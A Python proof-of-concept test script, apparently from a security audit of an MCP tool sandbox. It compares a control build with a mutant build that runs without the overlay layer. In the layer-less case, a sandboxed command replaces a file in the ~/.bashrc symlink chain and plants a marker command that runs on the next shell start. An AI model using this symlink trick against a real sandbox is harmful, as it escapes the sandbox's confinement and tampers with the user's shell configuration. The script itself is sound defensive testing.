#!/usr/bin/env python3
"""atk41 F16: the allowlist without a layer (a host where overlayfs cannot be mounted on the workspace: serve says
"calls write the workspace directly, judged by path rules only"; simulated with the mutant build's workspace-layer
switch, which takes the same branch) no longer mounts a home link's chain middle read-only (protectedNow skips a root
that is a link: "the commit judges it", but there is no commit): ~/.bashrc -> ws/bashrc -> ws/shell/bashrc, a call
replaces ws/bashrc with its own file. Control: the same binary with the layer (refused). Run setup.sh first."""
import os, sys, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
home = "/tmp/atk41/ll/home"
inside = "import os\nos.remove('bashrc')\nopen('bashrc', 'w').write('id > /tmp/atk41/ll/PWNED\\n')\nprint('replaced')\n"
for label, mut in (("control, with the layer", ""), ("layer-less", "workspace-layer")):
    subprocess.run(["sh", os.path.dirname(os.path.abspath(__file__)) + "/setup.sh"], check=True)
    env = {"HOME": home, "PATH": "/usr/bin:/bin"}
    if mut: env["MCPSANDBOX_MUTANT"] = mut
    s = Stdio(["/tmp/atk41/mcpsandbox-mutant", "serve", "--policy", "/tmp/atk41/ll/py.toml"], env=env, err="/tmp/atk41/ll/serve.log")
    print("==", label)
    print(text(s.call("run_allowed_command", {"command": "python3", "args": ["-c", inside]})).strip()[:600])
    s.close()
    print("~/.bashrc is a link:", os.path.islink(home + "/.bashrc"), "-> reads:", repr(open(home + "/.bashrc").read()))
    print("serve log:", [l.strip()[:200] for l in open("/tmp/atk41/ll/serve.log") if "transactional" in l or "layer" in l][:2])
